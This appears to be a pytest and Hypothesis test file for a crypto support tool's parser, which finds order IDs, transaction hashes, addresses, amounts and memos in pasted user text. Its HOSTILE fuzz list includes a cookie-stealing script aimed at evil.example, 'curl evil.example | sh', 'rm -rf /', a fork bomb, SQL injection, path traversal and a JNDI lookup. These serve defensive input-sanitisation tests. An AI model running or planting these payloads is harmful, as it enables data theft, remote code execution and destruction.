"""What a pasted text is read as: all that it can be, nothing that is not in it, in linear work."""

from __future__ import annotations

import random
import re
import sys
import unicodedata
from collections.abc import Callable, Iterator
from decimal import Decimal
from re import _constants as code  # type: ignore[attr-defined]
from re import _parser as parser  # type: ignore[attr-defined]
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from corpus import Case, load, texts
from rows import each_row
from sampling import examples
from swapdesk.chain.addresses.display import grouped, short, transaction_link, wrapped_address
from swapdesk.chain.addresses.kinds import ADDRESS_KINDS, derive_address, derive_transaction_hash
from swapdesk.flows.support import pasted_secret, pasted_text
from swapdesk.flows.support.pasted_secret import KEY
from swapdesk.flows.support.pasted_text import (
    LONGEST,
    MOST_READINGS,
    NOTHING,
    TOO_LONG,
    UNREADABLE,
    WORD_LIMIT,
    PastedText,
    read_pasted,
)
from swapdesk.sandbox.world import build_chains
from swapdesk.wire.encoding.ids import new_object_id, new_order_id

ORDER = "h8Kq2PdT5mXcVbN3wRtY7z"
HASH = "0x" + "8f2c" * 16
BARE = "8f2c" * 16
SIGNATURE = (
    "5VERv8NMvzbJMEkV8xnrLkEaWRtSz9CosKDYjCJjBRnbJLgp8uirBgmQpjKhoR4tjF3ZpRzrFmBV6UjKdiSZkQUW"
)
REQUEST = "6f1d22c9-0b6e-4c5e-9d53-7c2f6b1f0a11"
SYMBOLS = {"BTC", "ETH", "USDT", "USDC", "SOL", "XRP", "USDC.E"}


def read(text: str) -> PastedText:
    return read_pasted(text, is_symbol=lambda word: word.upper() in SYMBOLS)


FULL_WIDTH = {at: at - 0xFEE0 for at in range(0xFF01, 0xFF5F)}
HIDDEN = ("Cf", "Cs", "Co", "Cn")
"""Categories of characters that are not drawn."""


def kinds(text: str) -> list[tuple[str, str]]:
    return [(one.kind, one.value) for one in read(text).readings]


@each_row(
    ("text", "wanted"),
    [
        (ORDER, [("id", ORDER), ("memo", ORDER)]),
        ("h8Kq2P", [("id", "h8Kq2P"), ("memo", "h8Kq2P")]),
        ("h8K", [("memo", "h8K")]),
        ("774411", [("id", "774411"), ("memo", "774411")]),
        ("7", [("memo", "7")]),
        (REQUEST, [("id", REQUEST), ("request", REQUEST)]),
        ("a" * 24, [("id", "a" * 24), ("memo", "a" * 24)]),
        (HASH, [("transaction", HASH), ("address", HASH)]),
        (HASH.upper(), [("transaction", HASH)]),
        (BARE, [("transaction", BARE)]),
        (SIGNATURE, [("transaction", SIGNATURE)]),
        ("0.5 BTC", [("amount", "0.5 BTC")]),
        ("0.5btc", [("amount", "0.5 BTC"), ("memo", "0.5btc")]),
        ("BTC 0.5", [("amount", "0.5 BTC")]),
        ("1 000 000 usdt", [("amount", "1,000,000 USDT")]),
        ("1'234.50 USDT", [("amount", "1,234.50 USDT")]),
        ("12.000,50 USDT", [("amount", "12,000.50 USDT")]),
        ("12,000.50 USDT", [("amount", "12,000.50 USDT")]),
        ("1.234.567 USDT", [("amount", "1,234,567 USDT")]),
        ("0.000000000000000001 ETH", [("amount", "0.000000000000000001 ETH")]),
        ("1,234 USDT", [("amount", "1,234 USDT"), ("amount", "1.234 USDT")]),
        ("1.234 USDT", [("amount", "1.234 USDT"), ("amount", "1,234 USDT")]),
        ("5 APPLES", []),
        ("it was $500", []),
        (f"order {ORDER}", [("id", ORDER)]),
        (f"Order: {ORDER}.", [("id", ORDER)]),
        ("my order number is 12345678", [("id", "12345678")]),
        ("order no. h8Kq2P, please", [("id", "h8Kq2P")]),
        ("ref: h8Kq2P", [("id", "h8Kq2P")]),
        ("the order is complete", []),
        ("memo: 774411", [("memo", "774411")]),
        ("destination tag 774411", [("memo", "774411")]),
        ("payment-id = 77aa4411", [("id", "77aa4411"), ("memo", "77aa4411")]),
        ('{"serviceId": "' + ORDER + '", "depositTag": "774411"}', [("id", ORDER)]),
        ('{"memo":"774411"}', [("memo", "774411")]),
        ("memo hello", []),
        ("so it goes", []),
    ],
)
def test_texts_are_read(text: str, wanted: list[tuple[str, str]]) -> None:
    assert kinds(text) == wanted


@each_row("case", load(name="pasted"), ids=lambda case: case.id)
def test_what_people_paste_is_read_as_what_it_is(case: Case) -> None:
    assert [list(one) for one in kinds(case.text)] == case.expect["readings"]


def test_a_hash_that_is_an_address_as_well_is_called_both() -> None:
    assert [one.called for one in read(HASH).readings] == [
        "a transaction hash of an EVM chain",
        "a Sui address without a checksum",
    ]


@each_row("chain", build_chains(), ids=lambda chain: chain.short_name)
def test_the_explorer_link_of_every_chain_names_its_transaction(chain: Any) -> None:
    transaction = derive_transaction_hash(chain.kind, b"h" * 32)
    link = transaction_link(chain.explorer_url, transaction)
    for text in (link, f"Look: {link}.", f"<{link}>", f"{link}?tab=logs#1"):
        assert any(transaction in one.texts for one in read(text).of("transaction")), text


def test_ids_in_the_head_of_an_e_mail_do_not_hide_what_is_in_it() -> None:
    head = "\n".join(f"X-Trace-{at}: {new_order_id(random.Random(at))}" for at in range(40))
    found = read(f"{head}\n\nI sent 0.5 BTC with {HASH}, memo 774411")
    assert len(found.readings) == MOST_READINGS
    assert found.cut
    assert {one.kind for one in found.readings} == {
        "id", "transaction", "address", "amount", "memo",
    }  # fmt: skip
    named = read(f"{head}\n\nMy order number is {ORDER}")
    assert named.readings[0].value == ORDER


def test_every_id_that_the_service_draws_is_seen_in_a_sentence() -> None:
    """One of thirty has no digit."""
    rng = random.Random(11)
    for _ in range(300):
        whole = new_order_id(rng)
        assert ("id", whole) in kinds(f"I wait for {whole} since an hour"), whole
        row = new_object_id(rng)
        assert ("id", row) in kinds(f"quote {row.upper()} it was"), row


@each_row("text", ["", "  \n\t ", "\0\0", "\u200b\u202e\ufeff", "\ud800", "\U000e0041"])
def test_nothing_to_see_is_nothing_pasted(text: str) -> None:
    assert read(text) == PastedText(problem=NOTHING)


HOSTILE = [
    *texts.control_texts(),
    *texts.invisible_texts(),
    *texts.markup_texts(),
    *texts.wide_texts(),
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "$(rm -rf /) `id` && curl evil.example | sh ; :(){ :|:& };:",
    "'; DROP TABLE orders; --",
    "../../../../etc/passwd",
    "{{7*7}} ${jndi:ldap://evil.example/a} %s%s%n",
    "١٢٣٤٥٦ ６７８９ Ⅷ ⁷⁷",
    "０ｘ" + "ａ" * 64,
]


@each_row("around", ["{}", f"{{}} {ORDER}", f"{HASH}{{}}\n774411"])
def test_hostile_texts_are_read_and_never_repeated_as_they_are(around: str) -> None:
    for text in HOSTILE:
        clean(read(around.replace("{}", text)))


def clean(found: PastedText) -> None:
    """What stands in the answer can be drawn, sent and kept."""
    assert bool(found.readings) is not bool(found.problem)
    assert len(found.readings) <= MOST_READINGS
    assert len({(one.kind, one.value) for one in found.readings}) == len(found.readings)
    for one in found.readings:
        for text in (*one.texts, one.called, one.symbol, *one.chains):
            assert text.isprintable(), repr(text)
            assert all(unicodedata.category(char) not in ("Cc", "Cf") for char in text)
            assert len(text) <= WORD_LIMIT
        assert all(text.isascii() for text in one.texts), one
        assert (one.amount is not None) is (one.kind == "amount")
        assert one.amount is None or (one.amount.is_finite() and one.amount >= 0)


@settings(max_examples=examples(400, part=8))
@given(st.text(max_size=200))
@example("BTC 1")
@example("\u202e" + ORDER)
def test_any_text_is_read_without_an_error_and_said_from_what_is_in_it(text: str) -> None:
    found = read(text)
    clean(found)
    drawn = "".join(char for char in text if unicodedata.category(char) not in HIDDEN).lower()
    drawn += "".join(str(unicodedata.decimal(one, one)) for one in drawn.translate(FULL_WIDTH))
    for one in found.readings:
        if one.kind == "shortened":
            assert all(end.lower() in drawn for end in one.ends), one
        elif one.kind != "amount":
            assert any(spelled.lower() in drawn for spelled in one.texts), one


@settings(max_examples=examples(400, part=8))
@given(
    st.sampled_from([ORDER, HASH, SIGNATURE, REQUEST, derive_address("evm", b"q" * 32)]),
    st.text(max_size=60),
    st.text(max_size=60),
    st.sampled_from([" ", "\n", "\t", "\0", ", ", " (", "<", "'", '"', "|", "\x1b", ";"]),
    st.sampled_from(["", "\u200b", "\u202e", "\ufeff"]),
)
def test_what_names_an_order_is_found_in_any_text(
    name: str, before: str, after: str, between: str, hidden: str
) -> None:
    found = read(f"{before}{between}{name[:9]}{hidden}{name[9:]} {after}")
    if not found.secret and not found.cut:
        assert any(name in one.texts for one in found.readings), found


@settings(max_examples=examples(200))
@given(st.decimals("0.000001", "99999999", places=6), st.sampled_from(sorted(SYMBOLS)))
def test_amounts_are_read_to_their_digits(amount: Decimal, symbol: str) -> None:
    for text in (f"{amount:f} {symbol}", f"I sent {amount:f}{symbol.lower()} to you"):
        found = [one for one in read(text).of("amount") if one.amount == amount]
        assert [one.symbol for one in found] == [symbol]
    with_groups = read(f"{amount:,f} {symbol}").of("amount")
    assert amount in [one.amount for one in with_groups]


SCRIPTS = {
    "latin": "abcdefghijklmnopqrstuvwxyzäéñøß",
    "cyrillic": "абвгдежзиклмнопрстуфхцчшщыьэюяїє",
    "greek": "αβγδεζηθικλμνξοπρστυφχψωάέήίόύώ",
    "arabic": "ابتثجحخدذرزسشصضطظعغفقكلمنهويةءی",
    "hebrew": "אבגדהוזחטיכלמנסעפצקרשתםןץ",
    "han": "我你他们的了是不在有钱转帐没到请问怎么办谢快点等很久",
    "kana": "あいうえおかきくけこさしすせそアイウエオカキクケコー",
    "hangul": "가나다라마바사아자차카타파하입금했는데안와요",
    "devanagari": "अआइईउऊएऐकखगघचछजटठडतथदनपफबमयरलवशसह\u093e\u093f\u0940\u0947",
    "thai": "กขคงจฉชซญดตถทธนบปผพมยรลวสหอะา",
}
QUOTES = (
    "",
    " ",
    "“",
    "”",
    "„",
    "«",
    "»",
    "「",
    "』",
    "：",
    "。",
    "、",
    "，",
    "（",
    "؟",
    "—",
    "\n",
    "|",
)
TELLING = {
    "order": ORDER,
    "request": REQUEST,
    **{f"address {kind}": derive_address(kind, b"k" * 32) for kind in ADDRESS_KINDS},
    **{f"hash {kind}": derive_transaction_hash(kind, b"h" * 32) for kind in ADDRESS_KINDS},
}
BROKEN: dict[str, Callable[[str], str]] = {
    "whole": lambda word: word,
    "over a line": lambda word: f"{word[: len(word) // 3 * 2]}\n{word[len(word) // 3 * 2 :]}",
    "in an answer": lambda word: f"{word[:15]}\n> {word[15:]}",
    "escaped": lambda word: "".join(f"%{ord(char):02X}" for char in word),
    "hidden": lambda word: f"{word[:7]}\u200b{word[7:]}",
    "in a link": lambda word: f"https://explorer.example/address/{word}?page=2",
    "in a tag": lambda word: f"<a href='https://x.example/#{word}'>here</a>",
    "in groups": grouped,
    "in groups of lines": lambda word: "\n     ".join(wrapped_address(word, 27)),
}


def prose(script: str, draw: random.Random, words: int = 6) -> str:
    """Some words of a script, with signs of any."""
    letters = SCRIPTS[script]
    said = ("".join(draw.choices(letters, k=draw.randint(1, 9))) for _ in range(words))
    return "".join(word + draw.choice(QUOTES) + " " for word in said)


@each_row("script", SCRIPTS)
@each_row("broken", BROKEN)
def test_what_names_an_order_is_found_in_every_script(script: str, broken: str) -> None:
    """Beside letters of other scripts without a blank, and in the forms in which it arrives."""
    draw = random.Random(f"{script} {broken}")
    # Each in every form, and in every fifth script.
    for name, word in list(TELLING.items())[sorted(SCRIPTS).index(script) % 5 :: 5]:
        glued = script != "latin" and " in " not in broken
        before, after = prose(script, draw).rstrip(), prose(script, draw)
        part = draw.choice(QUOTES) if glued else " "
        text = f"{before}{part}{BROKEN[broken](word)}{part}{after}"
        assert any(word in one.texts for one in read(text).readings), (name, text)


@settings(max_examples=examples(400, part=8))
@given(
    st.sampled_from(sorted(SCRIPTS)),
    st.integers(0, 1 << 30),
    st.sampled_from(
        [
            "Memo",
            "memo (ID)",
            "Destination Tag",
            "DT",
            "标签",
            "备注",
            "мемо",
            "Zieltag",
            "タグ",
            "메모",
        ]
    ),
    st.sampled_from([": ", "：", " ", " = ", "\n", " #", " — ", ' "']),
    st.integers(1, 2**32),
    st.decimals("0.000001", "99999999", places=6),
    st.sampled_from([" ", "\u00a0", "\u202f", "\u2009", "", " **"]),
)
def test_memos_and_amounts_are_found_in_every_script(
    script: str, seed: int, label: str, between: str, memo: int, amount: Decimal, blank: str
) -> None:
    draw = random.Random(seed)
    before, after = prose(script, draw), prose(script, draw)
    text = f"{before}{label}{between}{memo} {after}"
    assert str(memo) in [one.value for one in read(text).of("memo")], text
    grouping = draw.choice(["", " ", "\u00a0", "\u202f", "\u2009", "’"])
    written = f"{amount:,f}".replace(",", grouping)
    text = f"{before}{written}{blank}USDT {after}"
    assert [one.amount for one in read(text).of("amount")] == [amount], text


def test_nothing_is_found_in_texts_that_name_nothing() -> None:
    draw = random.Random(35)
    named = (
        *(
            "MetaMask",
            "iPhone",
            "Alice",
            "KuCoin",
            "Windows",
            "11",
            "2026",
            "3:45",
            "14.02.",
            "50%",
        ),
        *("$500", "24h", "No", "3", "v2", "#4", "A4", "1st"),
    )
    for _ in range(examples(1_000)):
        script = draw.choice(sorted(SCRIPTS))
        words = [prose(script, draw, draw.randint(1, 5)) for _ in range(draw.randint(1, 6))]
        beside = draw.choices(named, k=draw.randint(0, 3))
        whole = [*words, *beside]
        draw.shuffle(whole)
        text = draw.choice((" ", "\n", "... ", ", ")).join(whole)
        assert read(text).readings == (), text


@each_row("kind", ADDRESS_KINDS)
def test_an_address_is_of_its_chains_and_cut_short_it_is_known_by_its_ends(kind: str) -> None:
    address = derive_address(kind, b"k" * 32)
    assert kind in read(address).of("address")[0].chains
    for whole in (address, derive_transaction_hash(kind, b"h" * 32)):
        other = derive_transaction_hash(kind, b"i" * 32)
        mark = "0x" if whole.startswith("0x") else ""
        for cut in (
            short(whole),
            f"{whole[:8]}…{whole[-6:]}",
            f"{whole[:8]}...{whole[-6:]}",
            f"{whole[:9]} … {whole[-6:]}",
        ):
            found = [one for one in read(f"I see {cut} there").readings if one.cut_from(whole)]
            assert found, cut
            assert not found[0].cut_from(other)
            assert not found[0].cut_from(mark + whole[-5:])


def test_a_new_kind_of_chain_brings_its_hashes(monkeypatch: pytest.MonkeyPatch) -> None:
    word = "zed_7Hq2-9fKp-3Xw8"

    def read_hash(text: str) -> bytes | None:
        return b"z" * 32 if text == word else None

    zed = replace(ADDRESS_KINDS["sui"], name="zed", chain="Zed", read_hash=read_hash)
    assert read(f"订单{word}没到").of("transaction") == []
    monkeypatch.setitem(ADDRESS_KINDS, "zed", zed)
    (found,) = read(f"订单{word}没到").readings
    assert (found.value, found.called, found.chains) == (word, "a Zed transaction hash", ("zed",))


def test_words_that_may_begin_an_id_prove_nothing() -> None:
    """Only who knows the orders can say whether one begins so."""
    found = read("Hola, h8Kq2P o hKqPdT no llega a MetaMask")
    assert found.readings == ()
    assert found.beginnings == ("h8Kq2P", "hKqPdT")
    assert found.problem == UNREADABLE
    assert found.searchable
    assert read("nada llega") == PastedText(problem=UNREADABLE)
    assert not read("nada llega").searchable


def test_two_ids_in_two_lines_stay_two() -> None:
    rng = random.Random(5)
    for _ in range(50):
        first, second = new_order_id(rng), new_order_id(rng)
        for between in ("\n", ",", "/", "-", "_", "和", " & ", "\n> "):
            values = [one.value for one in read(f"It is {first}{between}{second}").of("id")]
            assert values == [first, second], between


def test_several_words_in_a_row_are_not_put_together() -> None:
    numbers = " ".join(f"{at * 7_654_321 % 10**8:08d}" for at in range(3, 11))
    assert read(f"I have the tags {numbers}").of("transaction") == []
    address, row = derive_address("evm", b"s" * 32), "8f2c" * 6
    found = read(f"paid to\n{address}\n{row}\nplease")
    assert [one.value for one in found.of("address")][:1] == [address]
    assert [one.value for one in found.of("id")] == [row]
    accounts = [derive_address("sol", bytes([at]) * 32) for at in range(6)]
    for between in (" ", "\n", ", "):
        values = [one.value for one in read(f"from {between.join(accounts)}").of("address")]
        assert values[:6] == accounts, between


def test_what_is_longer_than_it_may_be_is_not_read(monkeypatch: pytest.MonkeyPatch) -> None:
    assert read("a" * (LONGEST + 1)) == PastedText(problem=TOO_LONG)
    monkeypatch.setattr(pasted_text, "MOST_WORDS", 50)
    assert not read(f"{ORDER} " + "it " * 49).cut
    assert read(f"{ORDER} " + "it " * 50).cut


UNITS = (
    "a", "7", " ", "\0", "\u202e", "é", "漢", "😀", "[", "<", "0x", "1,", "so it goes ",
    "order  ", "no-", "memo abcd ", "111 ", "[1,", "{'a':", "-----BEGIN ", "wallet ", "secret-",
    "0xabc ", f"{HASH} ", f"{ORDER} ", f"/{SIGNATURE}", "is  ", "\ud800", "a@b.example ",
)  # fmt: skip


@each_row("unit", UNITS)
def test_much_of_anything_is_read(unit: str) -> None:
    found = read(unit * ((1 << 12) // len(unit)))
    assert found.secret or clean(found) is None


def test_a_mebibyte_is_read_and_a_key_behind_it_is_seen() -> None:
    """Behind more words than are read."""
    whole = "memo abcd " * (LONGEST // 10 - 4)
    assert read(f"{whole} -----BEGIN PRIVATE KEY-----").problem == KEY


def calls(text: str) -> int:
    """How many functions are called to read a text."""
    count = 0

    def counted(frame: Any, event: str, argument: Any) -> None:
        nonlocal count
        count += event in ("call", "c_call")

    before = sys.getprofile()
    sys.setprofile(counted)
    try:
        read(text)
    finally:
        sys.setprofile(before)
    return count


@each_row(
    "unit", ["so it goes ", f"{HASH} ", f"{ORDER} ", "1,234 USDT ", "order h8Kq2P ", f"/{HASH}"]
)
def test_work_grows_no_faster_than_the_text(unit: str) -> None:
    once, twice = calls(unit * 100), calls(unit * 200)
    assert twice <= 2 * once + 1_000


PATTERNS = [
    (module.__name__.rpartition(".")[2] + "." + name, value)
    for module in (pasted_text, pasted_secret)
    for name, value in vars(module).items()
    if isinstance(value, re.Pattern)
]
MATCHED_WHOLE = {"_ID", "_STRONG_ID", "_SHORT_UUID", "_BASE58", "_MEMO", "_DIGITS", "_UUID"}
"""Patterns of one word, which has at most so many characters as a word may have."""
WIDEST = 2_000


@each_row(("name", "pattern"), PATTERNS)
def test_no_pattern_looks_further_than_so_many_characters(
    name: str, pattern: re.Pattern[str]
) -> None:
    """Else one text of its own kind takes the square of its length: each place in it is tried."""
    if name.rpartition(".")[2] in MATCHED_WHOLE:
        return
    parsed = list(parser.parse(pattern.pattern, pattern.flags))
    if len(parsed) == 1 and parsed[0][0] is code.MAX_REPEAT:
        # One class alone, which no place of the text is tried for twice.
        inner = list(parsed[0][1][2])
        assert [kind for kind, _ in inner] == [code.IN]
        return
    for tree in (parsed, *looked_ahead(parsed)):
        width = parser.SubPattern(parser.State(), list(tree)).getwidth()[1]
        assert width <= WIDEST, (name, width)


def looked_ahead(tree: Any) -> Iterator[Any]:
    """What a pattern looks at without taking it, at any depth."""
    for kind, value in tree:
        if kind in (code.ASSERT, code.ASSERT_NOT):
            yield value[1]
        for part in value if isinstance(value, (tuple, list)) else ():
            for nested in part if isinstance(part, list) else (part,):
                if isinstance(nested, parser.SubPattern):
                    yield from looked_ahead(nested)
